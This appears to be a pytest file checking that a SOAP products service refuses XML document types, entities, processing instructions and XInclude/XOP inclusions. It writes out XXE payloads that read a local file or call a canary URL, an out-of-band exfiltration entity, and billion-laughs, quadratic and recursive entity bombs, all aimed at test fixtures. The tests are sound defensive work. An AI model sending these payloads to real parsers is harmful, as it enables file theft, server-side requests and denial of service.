"""Document types, entities, processing instructions and external references make the server read or call nothing."""
import socket

import pytest

from site_client import wait_until
from soap_attack import call, envelope, expect_client_fault

pytestmark = pytest.mark.usefixtures("in_time", "canary")


def laughs(reference, levels=12):
    """Entities each of which contains the one before it ten times."""
    lines = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels + 1))
    return f"<!DOCTYPE x [{lines}]>", reference.format(f"&l{levels};")


def parameter_laughs(levels=12):
    """Parameter entities that each declare the next with ten references: a kilobyte that takes libxml2 20 seconds."""
    lines = "<!ENTITY % l0 'ha'>" + "".join(
        f"<!ENTITY % l{level} '{f'%l{level - 1};' * 10}'>" for level in range(1, levels + 1))
    return f"<!DOCTYPE x [{lines}%l{levels};]>"


ATTRIBUTE_LAUGHS, LAUGHING_ATTRIBUTE = laughs('<product_id note="{}">NONE</product_id>')
TEXT_LAUGHS, LAUGHING_TEXT = laughs("<product_id>{}</product_id>")
ENTITY = "<product_id>&e;</product_id>"

# The document type, and the content of get_product.
DOCTYPES = {
    "bare": ("<!DOCTYPE Envelope>", None),
    "internal_entity": ('<!DOCTYPE x [<!ENTITY e "NONE">]>', ENTITY),
    "file": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]>', ENTITY),
    "http": ('<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>', ENTITY),
    "parameter_entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>', None),
    "out_of_band": (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % p SYSTEM "{url}"> %p; %all;]>', "&send;"),
    "external": ('<!DOCTYPE x SYSTEM "{url}">', None),
    "public": ('<!DOCTYPE x PUBLIC "-//X//DTD X//EN" "{url}">', None),
    "ftp": ('<!DOCTYPE x SYSTEM "ftp://{address}/x.dtd">', None),
    "billion_laughs_text": (TEXT_LAUGHS, LAUGHING_TEXT),
    "billion_laughs_attribute": (ATTRIBUTE_LAUGHS, LAUGHING_ATTRIBUTE),
    "quadratic": (f'<!DOCTYPE x [<!ENTITY e "{"a" * 60_000}">]>', f'<product_id>{"&e;" * 60_000}</product_id>'),
    "parameter_laughs": (parameter_laughs(), None),
    "recursive": ('<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>', ENTITY),
    "attribute_default": ('<!DOCTYPE x [<!ATTLIST product_id xmlns CDATA "http://other/">]>', None),
    "after_comment": ('<!-- --><!DOCTYPE x [<!ENTITY e "NONE">]>', ENTITY),
    "lower_case": ('<!doctype x>', None),
}


def document(name, canary, tmp_path, declaration=""):
    secret = tmp_path / "secret"
    secret.write_text("the-secret")
    doctype, content = DOCTYPES[name]
    for word, value in {"{file}": str(secret), "{url}": canary.url, "{address}": canary.address}.items():
        doctype = doctype.replace(word, value)
    body = call() if content is None else call(content=content)
    return envelope(body, before=declaration + doctype)


@pytest.mark.parametrize("name", DOCTYPES)
def test_a_document_type_is_refused_unread(attacked, canary, tmp_path, name):
    answer = attacked.post("products", document(name, canary, tmp_path))
    expect_client_fault(answer, "XML_FORBIDDEN")
    assert "the-secret" not in answer.text and "haha" not in answer.text


@pytest.mark.parametrize("name", ["bare", "file", "http", "billion_laughs_text", "parameter_laughs"])
def test_a_document_type_is_refused_in_soap_12_too(attacked, canary, tmp_path, name):
    body = document(name, canary, tmp_path).replace(
        "http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope")
    answer = attacked.post("products", body, "application/soap+xml; charset=utf-8")
    expect_client_fault(answer, "XML_FORBIDDEN", version=12)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("name", ["file", "http", "parameter_laughs"])
def test_utf_16_hides_no_document_type(attacked, canary, tmp_path, name, encoding):
    body = document(name, canary, tmp_path).encode(encoding)
    expect_client_fault(attacked.post("products", body, "text/xml"), "XML_FORBIDDEN")


@pytest.mark.parametrize("media_type", ["text/xml", "text/xml; charset=utf-7"])
def test_utf_7_hides_no_document_type(attacked, canary, tmp_path, media_type):
    declaration = '<?xml version="1.0" encoding="utf-7"?>'
    body = declaration.encode() + document("file", canary, tmp_path).encode("utf-7")
    expect_client_fault(attacked.post("products", body, media_type), "XML_ENCODING")


PI = '<?xml-stylesheet type="text/xsl" href="{url}"?>'
PROCESSING_INSTRUCTIONS = {
    "before": lambda pi: envelope(before=pi),
    "after": lambda pi: envelope(after=pi),
    "in_the_body": lambda pi: envelope(pi + call()),
    "in_the_operation": lambda pi: envelope(call(content=pi + "<product_id>NONE</product_id>")),
    "in_a_value": lambda pi: envelope(call(content=f"<product_id>NO{pi}NE</product_id>")),
    "in_the_header": lambda pi: envelope(header=pi),
}


@pytest.mark.parametrize("target", [PI, "<?php it_is();?>", "<?x?>"], ids=["stylesheet", "php", "empty"])
@pytest.mark.parametrize("place", PROCESSING_INSTRUCTIONS)
def test_a_processing_instruction_is_refused(attacked, canary, place, target):
    body = PROCESSING_INSTRUCTIONS[place](target.replace("{url}", canary.url))
    expect_client_fault(attacked.post("products", body), "XML_FORBIDDEN")


@pytest.mark.parametrize("entity", ["&nbsp;", "&e;", "&xxe;"])
def test_an_undefined_entity_is_refused(attacked, entity):
    answer = attacked.post("products", envelope(call(content=f"<product_id>{entity}</product_id>")))
    assert expect_client_fault(answer).code in ("XML_MALFORMED", "XML_FORBIDDEN")


INCLUSIONS = {
    "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{url}"/>',
    "xinclude_file": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{file}"/>',
    "xop": '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="{url}"/>',
    "xop_cid": '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:part@example.com"/>',
}


@pytest.mark.parametrize("name", INCLUSIONS)
def test_an_inclusion_in_a_value_is_refused(attacked, canary, tmp_path, name):
    (tmp_path / "secret").write_text("the-secret")
    inclusion = INCLUSIONS[name].replace("{url}", canary.url).replace("{file}", str(tmp_path / "secret"))
    answer = attacked.post("products", envelope(call(content=f"<product_id>{inclusion}</product_id>")))
    assert "product_id" in expect_client_fault(answer, "VALIDATION").fields
    assert "the-secret" not in answer.text


@pytest.mark.parametrize("name", INCLUSIONS)
def test_an_inclusion_beside_the_fields_is_refused(attacked, canary, tmp_path, name):
    inclusion = INCLUSIONS[name].replace("{url}", canary.url).replace("{file}", str(tmp_path))
    answer = attacked.post("products", envelope(call(content=f"<product_id>NONE</product_id>{inclusion}")))
    expect_client_fault(answer, "UNKNOWN_FIELD")


def test_a_schema_location_is_ignored(attacked, canary):
    attributes = (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="http://messo.products.soap/v1 {canary.url}"'
        f' xsi:noNamespaceSchemaLocation="{canary.url}" xml:base="{canary.url}"')
    answer = attacked.post("products", envelope(call("get_service_info", ""), attributes=attributes))
    assert answer.status_code == 200, answer.text


def test_the_canary_sees_a_call(canary):
    """The listener of the tests above notices a connection."""
    socket.create_connection(tuple(canary.address.split(":"))).close()
    wait_until(lambda: canary.calls == 1, 2)
    canary.calls = 0
